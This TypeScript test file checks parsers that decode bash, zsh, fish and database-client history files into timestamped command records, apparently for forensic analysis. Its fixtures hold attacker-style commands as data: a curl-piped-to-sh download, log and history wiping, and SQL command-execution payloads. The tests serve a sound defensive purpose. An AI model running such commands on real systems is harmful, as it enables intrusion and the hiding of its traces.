import { describe, expect, test } from 'bun:test';
import type { LogFormat } from '../decoder.ts';
import { readLog } from '../read-log.fixture.ts';
import { bashHistory } from './bash.ts';
import { clientHistory } from './client.ts';
import { fishHistory } from './fish.ts';
import { zshHistory } from './zsh.ts';

const writtenUs = 1_700_000_000e6;
const read = (format: LogFormat, text: string, source = '/home/ada/.bash_history') =>
  readLog(format, text, { source, writtenUs }).events.map((event) => {
    if (event.what !== 'command') throw new Error(event.what);
    return [String(event.account), event.us / 1e6, event.certain, String(event.command)] as const;
  });
const commands = (format: LogFormat, text: string): readonly string[] =>
  read(format, text).map(([, , , command]) => command);

describe('histories of bash', () => {
  test('without times: commands of the owner, no later than the file was written', () => {
    expect(read(bashHistory, 'w\ncurl -s http://192.0.2.1/x | sh\n')).toEqual([
      ['ada', 1_700_000_000, false, 'w'],
      ['ada', 1_700_000_000, false, 'curl -s http://192.0.2.1/x | sh'],
    ]);
    expect(read(bashHistory, 'id\n', '/root/.bash_history')[0]?.[0]).toBe('root');
    expect(read(bashHistory, 'id\n', '/srv/app/.bash_history')[0]?.[0]).toBe('');
  });

  test('with times, over lines as long as a command is open', () => {
    const text =
      '#1690000000\necho "a\nb"\n#1690000005\nfor i in 1 2\ndo\n  echo $i\ndone\n#1690000007\ncat <<E > x\nit\'s\nE\n#1690000009\nls |\n wc\n';
    expect(read(bashHistory, text)).toEqual([
      ['ada', 1_690_000_000, true, 'echo "a%0Ab"'],
      ['ada', 1_690_000_005, true, 'for i in 1 2%0Ado%0A  echo $i%0Adone'],
      ['ada', 1_690_000_007, true, "cat <<E > x%0Ait's%0AE"],
      ['ada', 1_690_000_009, true, 'ls |%0A wc'],
    ]);
  });

  test('what stands behind a finished command has no time of its own', () => {
    expect(read(bashHistory, 'id\n#1690000000\nw\nhistory -c\n')).toEqual([
      ['ada', 1_700_000_000, false, 'id'],
      ['ada', 1_690_000_000, true, 'w'],
      ['ada', 1_690_000_000, false, 'history -c'],
    ]);
  });

  test('a comment is a command, a quote in it opens nothing', () => {
    expect(commands(bashHistory, "#1690000000\nls # don't\n#1690000001\nx\n#note\n")).toEqual([
      "ls # don't",
      'x',
      '#note',
    ]);
  });

  test('a quote that never closes holds a bounded piece, and noise is text', () => {
    const many = `#1690000000\necho '\n${'rm -rf x\n'.repeat(5000)}`;
    expect(commands(bashHistory, many).length).toBeGreaterThan(3000);
    expect(commands(bashHistory, '\x1b[2J\x00\xff\n')).toEqual(['%1B[2J%00%FF']);
    expect(commands(bashHistory, `#1690000000\n${'a#'.repeat(30_000)}\n`)).toHaveLength(1);
  });
});

describe('histories of zsh and fish', () => {
  test('zsh: extended and plain, joined by a backslash, unmetafied', () => {
    expect(read(zshHistory, ': 1690000000:0;echo a\\\nb\nplain\n')).toEqual([
      ['ada', 1_690_000_000, true, 'echo a%0Ab'],
      ['ada', 1_700_000_000, false, 'plain'],
    ]);
    expect(commands(zshHistory, ': 1690000000:0;echo \xc3\x83\xa4\n')).toEqual(['echo \u00c4']);
    expect(commands(zshHistory, ': 1690000000:0;echo \\\\\n: 1:0;x\n')).toEqual(['echo \\\\', 'x']);
  });

  test('zsh: a line that the user himself went on with, and a backslash that ends the command', () => {
    // Typed `curl \`, a newline, `x | sh`: the backslash is the command's, the one before the newline zsh's.
    expect(commands(zshHistory, ': 1690000000:0;curl \\\\\nx | sh\n: 1690000009:0;w\n')).toEqual([
      'curl \\%0Ax | sh',
      'w',
    ]);
    expect(commands(zshHistory, ': 1690000000:0;echo \\ \n: 1690000009:0;w\n')).toEqual(['echo \\', 'w']);
    expect(commands(zshHistory, '\\: > /var/log/auth.log\nls\n')).toEqual([': > /var/log/auth.log', 'ls']);
  });

  test('fish: command, time and paths', () => {
    const text = '- cmd: echo a\\nb\\\\c\n  when: 1690000000\n  paths:\n    - /tmp/x\n- cmd: w\n';
    expect(read(fishHistory, text)).toEqual([
      ['ada', 1_690_000_000, true, 'echo a%0Ab\\c'],
      ['ada', 1_700_000_000, false, 'w'],
    ]);
    expect(readLog(fishHistory, 'x\n  when: 5\n').outcome).toMatchObject({ events: 0, unreadable: 2 });
  });
});

describe('histories of clients', () => {
  test('libedit writes blanks as octal, psql newlines as 0x01', () => {
    expect(commands(clientHistory, "_HiStOrY_V2_\nselect\\040sys_exec('id');\n")).toEqual([
      "select sys_exec('id');",
    ]);
    expect(commands(clientHistory, "COPY t\x01FROM PROGRAM 'id';\n")).toEqual([
      "COPY t%0AFROM PROGRAM 'id';",
    ]);
  });

  test('a line that is a time is the next line’s', () => {
    expect(read(clientHistory, '#1690000000\nselect 1;\nselect 2;\n')).toEqual([
      ['ada', 1_690_000_000, true, 'select 1;'],
      ['ada', 1_700_000_000, false, 'select 2;'],
    ]);
  });
});
